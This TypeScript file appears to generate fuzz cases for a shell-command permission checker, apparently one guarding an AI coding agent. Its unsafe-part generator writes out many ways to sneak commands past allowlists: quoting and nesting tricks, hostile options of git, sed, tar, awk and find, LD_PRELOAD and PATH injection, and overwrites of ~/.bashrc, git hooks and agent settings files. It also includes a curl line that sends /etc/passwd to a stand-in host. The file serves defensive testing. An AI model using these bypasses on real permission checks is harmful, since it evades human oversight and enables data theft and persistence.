/** A source of choices that gives the same for the same seed. */
export interface Chooser {
  below(count: number): number;
  of<T>(list: readonly T[]): T;
}

export function createChooser(seed: number): Chooser {
  let state = seed >>> 0;
  const below = (count: number) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % count;
  };
  return {
    below,
    of: (list) => {
      const item = list[below(list.length)];
      if (item === undefined) throw new Error('nothing to choose from');
      return item;
    },
  };
}

/** What the rules of the fuzz allow: all of these are harmless. */
export const allowedRules = [
  'git *',
  'npm run *',
  'ls *',
  'echo *',
  'grep *',
  'cat *',
  'sort *',
  'sed *',
  'find *',
  'tar *',
  'cp *',
  'awk *',
  'curl *',
  'xargs *',
  'env *',
  'timeout *',
];

const harmless = [
  'git status',
  'git log --oneline -3',
  "git commit -m 'a; rm -rf x | b'",
  'npm run build',
  'ls -la src',
  'ls src/*.ts',
  'echo hello',
  'echo "a && b"',
  "grep -rn 'x|y' src",
  'cat a.txt',
  'sort -u a.txt',
  "sed -n '1,3p' a.txt",
  "find . -name '*.ts'",
  'tar tf a.tar',
  'cp a.txt b.txt',
  "awk '{print $1}' a.txt",
  'git diff 2>/dev/null',
];

const quotings: readonly ((name: string) => string)[] = [
  (name) => name,
  (name) => `"${name}"`,
  (name) => `'${name}'`,
  (name) => `\\${name}`,
  (name) => `${name.slice(0, 1)}\\${name.slice(1)}`,
  (name) => `${name.slice(0, 1)}''${name.slice(1)}`,
  (name) => `${name.slice(0, 1)}""${name.slice(1)}`,
  (name) => `/usr/bin/${name}`,
  (name) => `'/bin/'"${name}"`,
];

const prefixes = [
  '',
  '',
  '',
  'A=1 ',
  '2>/dev/null ',
  'command ',
  'env ',
  'env -i B=2 ',
  'nohup ',
  'timeout 5 ',
  'nice -n 3 ',
  'sudo -u root ',
  'exec ',
  'stdbuf -oL ',
  'xargs -n1 ',
  'busybox ',
  'time -p ',
  'setsid ',
  'strace -f ',
  'timeout -k 1 5 env X=1 nice ',
  'sudo env nohup ',
  'builtin command ',
  'ionice -c2 -n 0 ',
  'unshare -r ',
  'doas ',
];

/** A call of `name` that a shell runs for sure, however it is written. */
export function hiddenCall(choose: Chooser, name: string, words: string): string {
  return `${choose.of(prefixes)}${choose.of(quotings)(name)}${choose.of([' ', '  ', '\t', ' \\\n'])}${words}`;
}

const quoted = (text: string) => `'${text.replaceAll("'", `'\\''`)}'`;

/** Ways to run a command among or inside others; each keeps it running. */
const nestings: readonly ((inner: string, other: string) => string)[] = [
  (inner, other) => `${other}; ${inner}`,
  (inner, other) => `${other} && ${inner}`,
  (inner, other) => `${other} || ${inner}`,
  (inner, other) => `${other} & ${inner}`,
  (inner, other) => `${other} | ${inner}`,
  (inner, other) => `${other} |& ${inner}`,
  (inner, other) => `${other}\n${inner}`,
  (inner, other) => `${inner}\n${other}`,
  (inner, other) => `${other} # x\n${inner}`,
  (inner) => `( ${inner}\n)`,
  (inner) => `{ ${inner}\n}`,
  (inner) => `{ ! { ${inner}\n}; }`,
  (inner) => `echo "$( ${inner})"`,
  (inner) => `echo "\${x:-$( ${inner})}"`,
  (inner) => `x=$( ${inner}) ls`,
  (inner) => `cat <( ${inner})`,
  (inner) => `echo a > >( ${inner})`,
  (inner) => `cat <<E\n$( ${inner})\nE`,
  (inner, other) => `if ${other}\nthen ${inner}\nfi`,
  (inner) => `while ${inner}\ndo ls; done`,
  (inner) => `for x in a b; do ${inner}\ndone`,
  (inner) => `for x in $( ${inner}); do ls; done`,
  (inner) => `case a in a) ${inner}\n;; esac`,
  (inner) => `f() { ${inner}\n}; f`,
  (inner) => `[[ -n $( ${inner}) ]]`,
  (inner) => `echo $((1 + $( ${inner})))`,
  (inner) => `bash -c ${quoted(inner)}`,
  (inner) => `sh -ec ${quoted(inner)}`,
  (inner) => `bash -o pipefail -lc ${quoted(inner)}`,
  (inner) => `eval ${quoted(inner)}`,
  (inner) => `trap ${quoted(inner)} EXIT`,
  (inner) => `env A=1 sh -c ${quoted(inner)}`,
  (inner) => `find . -exec sh -c ${quoted(inner)} \\;`,
  (inner) => `xargs -I{} sh -c ${quoted(inner)}`,
  (inner) => `timeout 5 bash -c ${quoted(inner)}`,
];

/** Puts a command into up to `depth` others. */
export function nest(choose: Chooser, command: string, depth: number): string {
  let result = command;
  for (let left = choose.below(depth + 1); left > 0; left -= 1)
    result = choose.of(nestings)(result, choose.of(harmless));
  return result;
}

const connectors = [' && ', ' || ', ' ; ', '\n', ' | '];

/** Only harmless commands, put together in ways that change nothing. */
export function harmlessLine(choose: Chooser): string {
  let line = choose.of(harmless);
  for (let left = choose.below(4); left > 0; left -= 1) line += choose.of(connectors) + choose.of(harmless);
  return choose.below(5) === 0 ? `( ${line}\n)` : line;
}

/** Parts no rule of the fuzz was meant for, beside what the allowed programs can be made to do. */
export function unsafePart(choose: Chooser): string {
  const evil = () => hiddenCall(choose, 'evil', choose.of(['x', '-rf y', '"$HOME"', 'a b']));
  const places = [
    '~/.bashrc',
    '/etc/passwd',
    '../out',
    '$HOME/.profile',
    '.git/hooks/pre-commit',
    'CLAUDE.md',
    '.claude/settings.json',
    '"/etc/x"',
    "'.vscode'/tasks.json",
    './src/../../x',
  ];
  const place = () => choose.of(places);
  return choose.of<() => string>([
    evil,
    evil,
    evil,
    () => `echo a ${choose.of(['>', '>>', '>|', '&>', '1>', '&>>', '<>'])} ${place()}`,
    () => `cp a ${place()}`,
    () => `git -c core.pager=${choose.of(['evil', "'sh -c evil'"])} log`,
    () => `git ${choose.of(['-C /x', '--git-dir=/x', '--exec-path=/x', '--work-tree /x'])} status`,
    () =>
      `git ${choose.of(['fetch --upload-pack=evil', 'rebase --exec evil', 'bisect run evil', 'submodule foreach evil', 'clone ext::evil', 'config alias.x !evil', 'grep -Oevil x', 'diff --ext-diff', 'log --output=x'])}`,
    () =>
      `${choose.of(['GIT_SSH_COMMAND', 'PAGER', 'LD_PRELOAD', 'PATH', 'BASH_ENV', 'NODE_OPTIONS', 'GIT_DIR'])}=evil git log`,
    () =>
      `sed ${choose.of(["'1e evil'", "'w /x'", '-i s/a/b/', "'s/a/evil/e'", '-f x', '--in-place s/a/b/'])} a.txt`,
    () =>
      `find . ${choose.of(['-exec evil {} +', '-delete', '-execdir evil \\;', '-fprintf x y', '-ok evil \\;', '-fls x'])}`,
    () =>
      `tar ${choose.of(['xf a --to-command=evil', '-I evil -cf x y', 'cf x y --checkpoint-action=exec=evil', 'xf a -C /', '--use-compress-program evil -tf x'])}`,
    () =>
      `awk ${choose.of(['\'BEGIN{system("evil")}\'', '\'{print > "/x"}\'', '\'{print | "evil"}\'', '-f x'])} a`,
    () => `sort ${choose.of(['-o ~/.bashrc', '--compress-program=evil', '--output=/x'])} a`,
    () =>
      `curl ${choose.of(['-o ~/.bashrc', '-K x', '-d @/etc/passwd', '--output=/x', '-T a', '-F a=@b', '-sO'])} http://x`,
    () =>
      choose.of([
        '$EVIL x',
        '"$EVIL" x',
        '$(echo evil) x',
        '`echo evil` x',
        "$'evil' x",
        '/b?n/evil x',
        'e{vi,}l x',
        `$\{E:-evil} x`,
        'alias ls=evil; ls',
        'bash x.sh',
        'source x',
        '. ./x',
        'bash <<< evil',
        'ls | sh',
        'export PATH=.; ls',
        'hash -p ./evil ls',
      ]),
    () =>
      choose.of([
        'git log\u2028evil',
        'git log\u0000evil',
        'git log\revil',
        'git\u00a0log',
        'git log \uff1b evil',
      ]),
  ])();
}
